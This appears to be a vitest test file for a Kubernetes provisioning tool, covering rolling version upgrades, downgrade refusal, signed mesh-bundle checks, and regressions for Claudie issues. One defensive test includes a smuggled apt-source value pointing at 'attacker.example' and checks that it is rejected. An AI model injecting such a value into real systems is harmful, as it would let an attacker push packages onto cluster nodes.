// Claudie's users ran into each of these (berops/claudie issues); each test shows it cannot happen here.
import { readFileSync } from 'node:fs';
import { mkdtemp, writeFile, mkdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { FileLease } from '@kubeplane/sdk';
import { clusterKey, generateMeshSigningKeyPair, signMeshBundle, type MeshBundle } from '@kubeplane/sdk/internal';
import { sandboxKubernetes, type Sandbox } from '@kubeplane/sandbox';
import { acquireProcessLock } from '../../packages/handlers/src/runtime/process-lock.js';
import { liveMachines, manifestOf, meshBundleOf, meshSigningKey, sandboxWorld } from '../helpers/sandbox-world.js';

const minimal = readFileSync(join(import.meta.dirname, '..', '..', 'examples', 'minimal.yaml'), 'utf8');
const badServerType = minimal.replace('serverType: cpx32', 'serverType: cpx999');

let sandbox: Sandbox | undefined;
afterEach(() => sandbox?.close());
function world(seed = 3) {
  const w = sandboxWorld(seed);
  sandbox = w.sandbox;
  return w;
}

describe('a Kubernetes version upgrade of an existing cluster', () => {
  it('upgrades and adds a worker in one apply: the new machine joins at the version the control plane runs, then moves with the rest', async () => {
    const { kp, sandbox } = world();
    await kp.apply(manifestOf(minimal));
    await kp.run();
    await kp.apply(manifestOf(minimal.replace('"1.34.2"', '"1.35.0"').replace(/count: 2\n(\s+)serverType: cpx32/, 'count: 3\n$1serverType: cpx32')));
    await kp.run();
    const status = await kp.status('minimal');
    expect(status.state, JSON.stringify(status.clusters)).toBe('DONE');
    const k8s = sandboxKubernetes(sandbox)(await kp.kubeconfig('minimal', 'minimal'));
    const nodes = await k8s.listNodes();
    expect(nodes).toHaveLength(4);
    expect(nodes.map((n) => n.kubeletVersion)).toEqual(['v1.35.0', 'v1.35.0', 'v1.35.0', 'v1.35.0']);
    const added = sandbox.kubernetes.kubelets().find((k) => k.node?.endsWith('-workers-03'));
    expect(added?.log.map((l) => l.message)).toEqual(expect.arrayContaining(['kubelet: restarted at v1.35.0']));
    expect(sandbox.kubernetes.kubelets().some((k) => k.log.some((l) => /failed/.test(l.message)))).toBe(false);
  });

  it('upgrades in place, control plane first, one node at a time, each drained and back in service before the next', async () => {
    const { kp, sandbox, events } = world(4);
    await kp.apply(manifestOf(minimal));
    await kp.run();
    const machines = sandbox
      .liveMachines()
      .map((m) => m.id)
      .sort();
    const versions = () =>
      Object.fromEntries(
        sandbox.kubernetes
          .inventory()
          .clusters.flatMap((c) => c.nodes)
          .map((n) => [n.name, n]),
      );
    const order: string[] = [];
    const off = kp.on((e) => {
      if (e.type === 'waiting' && e.step === 'upgrade' && /kubeadm upgrade/.test(e.reason)) order.push(e.reason);
    });
    await kp.apply(manifestOf(minimal.replace('"1.34.2"', '"1.35.0"')));
    const run = await kp.run();
    off();
    expect(run.stopped).toBe('idle');
    const status = await kp.status('minimal');
    expect(status.state, JSON.stringify(status.clusters)).toBe('DONE');
    // In place: the same machines, every node Ready, schedulable and reporting v1.35.0.
    expect(
      sandbox
        .liveMachines()
        .map((m) => m.id)
        .sort(),
    ).toEqual(machines);
    const nodes = Object.values(versions());
    expect(nodes.length).toBe(3);
    for (const n of nodes) {
      expect(n.ready).toBe(true);
      expect(n.unschedulable).toBe(false);
    }
    const kubelets = sandbox.kubernetes.kubelets().filter((k) => k.state === 'ready');
    expect(kubelets.every((k) => k.log.some((l) => l.message === 'kubelet: restarted at v1.35.0'))).toBe(true);
    expect(kubelets.some((k) => k.log.some((l) => /failed/.test(l.message)))).toBe(false);
    // Control plane first (kubeadm upgrade apply), then the workers one at a time (kubeadm upgrade node).
    expect(order.map((r) => /upgrading (\S+) to v1\.35\.0 \(kubeadm upgrade (\w+)\)/.exec(r)?.slice(1).join(' '))).toEqual([
      expect.stringMatching(/-control-01 apply$/),
      expect.stringMatching(/-workers-01 node$/),
      expect.stringMatching(/-workers-02 node$/),
    ]);
    const k8s = sandboxKubernetes(sandbox)(await kp.kubeconfig('minimal', 'minimal'));
    const kubeletVersions = (await k8s.listNodes()).map((n) => n.kubeletVersion);
    expect(kubeletVersions).toEqual(['v1.35.0', 'v1.35.0', 'v1.35.0']);
    const mesh = await k8s.getConfigMap('kube-system', 'kubeplane-mesh');
    expect(Object.keys(mesh ?? {}).sort()).toEqual(['bundle', 'bundle.sig']);
    expect(meshBundleOf(mesh)?.upgrade).toBeUndefined();
    expect(events.some((e) => e.type === 'error')).toBe(false);
    const endpoint = sandbox.kubernetes.inventory().clusters[0]?.endpoint ?? '';
    expect(sandbox.kubernetes.cluster(endpoint)?.identity.kubernetesVersion).toBe('v1.35.0');
  });

  it('refuses to take back an upgrade half done: it says which nodes run the newer version, and puts drained nodes back in service', async () => {
    const { kp, sandbox } = world(6);
    await kp.apply(manifestOf(minimal));
    await kp.run();
    await kp.apply(manifestOf(minimal.replace('"1.34.2"', '"1.35.0"')));
    // Run until the control plane has moved and a worker is being upgraded.
    const k8s = sandboxKubernetes(sandbox)(await kp.kubeconfig('minimal', 'minimal'));
    for (let i = 0; i < 200; i++) {
      await kp.run({ maxMessages: 1 });
      const mesh = await k8s.getConfigMap('kube-system', 'kubeplane-mesh');
      if ((meshBundleOf(mesh)?.upgrade?.nodes ?? []).some((n) => n.includes('-workers-'))) break;
    }
    await kp.apply(manifestOf(minimal));
    await kp.run();
    const status = await kp.status('minimal');
    expect(status.state).toBe('ERROR');
    expect(status.clusters['minimal']?.message).toMatch(/-control-01 already runs v1\.35\.0, newer than v1\.34\.2; Kubernetes cannot be downgraded/);
    const nodes = await k8s.listNodes();
    expect(nodes.filter((n) => n.unschedulable)).toEqual([]);
    expect(meshBundleOf(await k8s.getConfigMap('kube-system', 'kubeplane-mesh'))?.upgrade).toBeUndefined();
    // Applying the newer version again finishes the upgrade.
    await kp.apply(manifestOf(minimal.replace('"1.34.2"', '"1.35.0"')));
    await kp.run();
    expect((await kp.status('minimal')).state).toBe('DONE');
    expect((await k8s.listNodes()).map((n) => n.kubeletVersion)).toEqual(['v1.35.0', 'v1.35.0', 'v1.35.0']);
  });

  it('the sandbox holds kubeadm to its rules: a worker told to upgrade before its control plane refuses', async () => {
    const w = world(5);
    const { kp, sandbox } = w;
    await kp.apply(manifestOf(minimal));
    await kp.run();
    const k8s = sandboxKubernetes(sandbox)(await kp.kubeconfig('minimal', 'minimal'));
    const worker = (await k8s.listNodes()).find((n) => n.name.includes('-workers-'))?.name ?? '';
    const current = meshBundleOf(await k8s.getConfigMap('kube-system', 'kubeplane-mesh'));
    if (!current) throw new Error('the engine published no mesh bundle');
    // Signed with the cluster's key, as only the engine could.
    const upgrade = { nodes: [worker], version: '1.35.0', package: '1.35.0-1.1', mode: 'node' as const };
    await k8s.applyConfigMap(
      'kube-system',
      'kubeplane-mesh',
      signMeshBundle({ ...current, serial: current.serial + 1, upgrade }, (await meshSigningKey(w, 'minimal')).privateKeyPem),
    );
    await k8s.listNodes();
    sandbox.clock.advance(5 * 60_000);
    const nodes = await k8s.listNodes();
    expect(nodes.find((n) => n.name === worker)?.kubeletVersion).toBe('v1.34.2');
    const log =
      sandbox.kubernetes
        .kubelets()
        .find((k) => k.node === worker)
        ?.log.map((l) => l.message) ?? [];
    expect(log.some((m) => /upgrade the control plane first/.test(m))).toBe(true);
  });

  it('follows no one who can merely write the mesh ConfigMap: unsigned upgrade keys, another key, a replayed serial are refused', async () => {
    const w = world(8);
    const { kp, sandbox } = w;
    await kp.apply(manifestOf(minimal));
    await kp.run();
    const k8s = sandboxKubernetes(sandbox)(await kp.kubeconfig('minimal', 'minimal'));
    const control = (await k8s.listNodes()).find((n) => n.name.includes('-control-'))?.name ?? '';
    const published = (await k8s.getConfigMap('kube-system', 'kubeplane-mesh')) ?? {};
    const current = meshBundleOf(published) as MeshBundle;
    const key = (await meshSigningKey(w, 'minimal')).privateKeyPem;
    const upgrade = { nodes: [control], version: '1.35.0', package: '1.35.0-1.1', mode: 'apply' as const };
    // The nodes have applied a bundle of serial n + 3 (genuine, no instruction).
    await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', signMeshBundle({ ...current, serial: current.serial + 3 }, key));
    await k8s.listNodes();
    sandbox.clock.advance(60_000);
    const attempts: Array<Record<string, string>> = [
      // The apt source injection of the old, unsigned keys, next to the genuine bundle.
      {
        ...published,
        'upgrade-nodes': control,
        'upgrade-version': '1.35/deb/ /\ndeb [trusted=yes] http://attacker.example',
        'upgrade-package': '1.35.0-1.1',
        'upgrade-mode': 'apply',
      },
      signMeshBundle({ ...current, serial: current.serial + 1, upgrade }, generateMeshSigningKeyPair().privateKeyPem),
      signMeshBundle({ ...current, serial: current.serial + 2, upgrade }, key),
    ];
    for (const data of attempts) {
      await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', data);
      await k8s.listNodes();
      sandbox.clock.advance(5 * 60_000);
      expect((await k8s.listNodes()).find((n) => n.name === control)?.kubeletVersion).toBe('v1.34.2');
    }
    const log =
      sandbox.kubernetes
        .kubelets()
        .find((k) => k.node === control)
        ?.log.map((l) => l.message) ?? [];
    expect(log).toEqual(
      expect.arrayContaining([
        'kubeplane-mesh-sync: refused the mesh bundle: its signature does not verify with the mesh signing key; nothing changed',
        `kubeplane-mesh-sync: refused the mesh bundle: its serial ${current.serial + 2} is below the last applied (${current.serial + 3}): a replay; nothing changed`,
      ]),
    );
    expect(log.some((m) => /upgrading in place/.test(m))).toBe(false);
    // The same instruction signed by the engine's key, with a new serial, is carried out.
    await k8s.applyConfigMap('kube-system', 'kubeplane-mesh', signMeshBundle({ ...current, serial: current.serial + 4, upgrade }, key));
    await k8s.listNodes();
    sandbox.clock.advance(5 * 60_000);
    expect((await k8s.listNodes()).find((n) => n.name === control)?.kubeletVersion).toBe('v1.35.0');
  });
});

describe('Claudie pain points that cannot happen here', () => {
  it('#1275: a manifest that failed before its machines existed is deleted at once, not hung', async () => {
    const { kp, sandbox } = world();
    await kp.apply(manifestOf(badServerType));
    await kp.run();
    const failed = await kp.status('minimal');
    expect(failed.state).toBe('ERROR');
    expect(failed.clusters.minimal?.message).toContain('cpx999');
    await kp.destroy('minimal');
    const run = await kp.run();
    expect(run.stopped).toBe('idle');
    expect(await kp.findStatus('minimal')).toBeNull();
    expect(sandbox.inventory()).toEqual([]);
  });

  it('#2009: after a failed apply and a destroy nothing comes back: no queued work, no resources, however long we wait', async () => {
    const { kp, sandbox, queue } = world();
    await kp.apply(manifestOf(badServerType));
    await kp.run();
    await kp.destroy('minimal');
    await kp.run();
    sandbox.clock.advance(6 * 3600_000);
    const later = await kp.run();
    expect(later.messages).toBe(0);
    expect(await queue.size()).toBe(0);
    expect(sandbox.inventory()).toEqual([]);
    expect(await kp.projects()).toEqual([]);
  });

  it('#1483: a bad pool does not poison the state: replacing it with a good one converges', async () => {
    const { kp, sandbox } = world();
    await kp.apply(manifestOf(badServerType));
    await kp.run();
    expect((await kp.status('minimal')).state).toBe('ERROR');
    const replaced = minimal.replace('- name: workers', '- name: workers2').replace('compute: [workers]', 'compute: [workers2]');
    await kp.apply(manifestOf(replaced));
    await kp.run();
    expect((await kp.status('minimal')).state).toBe('DONE');
    expect(liveMachines(sandbox).map((n) => n.replace(/^minimal-[a-z0-9]+-/, ''))).toEqual(['control-01', 'workers2-01', 'workers2-02']);
  });

  it('#1286: a lease held by a process that died expires and is taken over without a manual unlock', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'kubeplane-lease-'));
    const w = sandboxWorld(4, (sb) => ({ lease: new FileLease(dir, sb.clock) }));
    sandbox = w.sandbox;
    await w.kp.apply(manifestOf(minimal));
    const id = (await w.kp.status('minimal')).clusters.minimal?.id ?? '';
    // A worker took the cluster's lease and died without releasing it.
    expect(await w.options.lease.acquire(clusterKey(id), 'crashed-worker', 120)).not.toBeNull();
    const run = await w.kp.run();
    expect(run.outcomes.busy).toBeGreaterThan(0);
    expect((await w.kp.status('minimal')).state).toBe('DONE');
  });

  it('#1286: the state directory writer lock of a process that died is taken over', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'kubeplane-lock-'));
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'writer.lock'), JSON.stringify({ pid: 2 ** 22 + 12345, command: 'kubeplane apply', since: '2026-01-01T00:00:00Z' }));
    const lock = await acquireProcessLock(join(dir, 'writer.lock'), 'kubeplane destroy');
    await lock.release();
  });

  it('#1339 and #1207: the status tells the truth — ERROR with the reason when a step fails, IN_PROGRESS with the reason while it retries, DONE only when done', async () => {
    const { kp, sandbox } = world();
    sandbox.injectFault({ cloud: 'hetzner', operation: 'POST /servers', kind: 'auth' });
    await kp.apply(manifestOf(minimal));
    await kp.run();
    const failed = await kp.status('minimal');
    expect(failed.state).toBe('ERROR');
    expect(failed.clusters.minimal?.state).toBe('ERROR');
    expect(failed.clusters.minimal?.message).toMatch(/create-nodes: .*(unauthorized|token|credential)/i);
    expect(failed.clusters.minimal?.previous.at(-1)).toMatchObject({ status: 'ERROR', stage: 'infrastructure' });

    sandbox.faults.clear();
    sandbox.injectFault({ cloud: 'hetzner', operation: 'DELETE /servers/{id}', kind: 'server-error', times: 3 });
    await kp.apply(manifestOf(minimal));
    await kp.run();
    expect((await kp.status('minimal')).state).toBe('DONE');
    await kp.destroy('minimal');
    // Mid-deletion, while the cloud fails, the status says so instead of DONE or a stale IN_PROGRESS.
    const seen: string[] = [];
    kp.on((e) => {
      if (e.type === 'waiting') seen.push(e.reason);
    });
    await kp.run();
    expect(seen.some((r) => /server_error|5\d\d|retried/i.test(r))).toBe(true);
    expect(await kp.projects()).toEqual([]);
    expect(sandbox.inventory()).toEqual([]);
  });
});
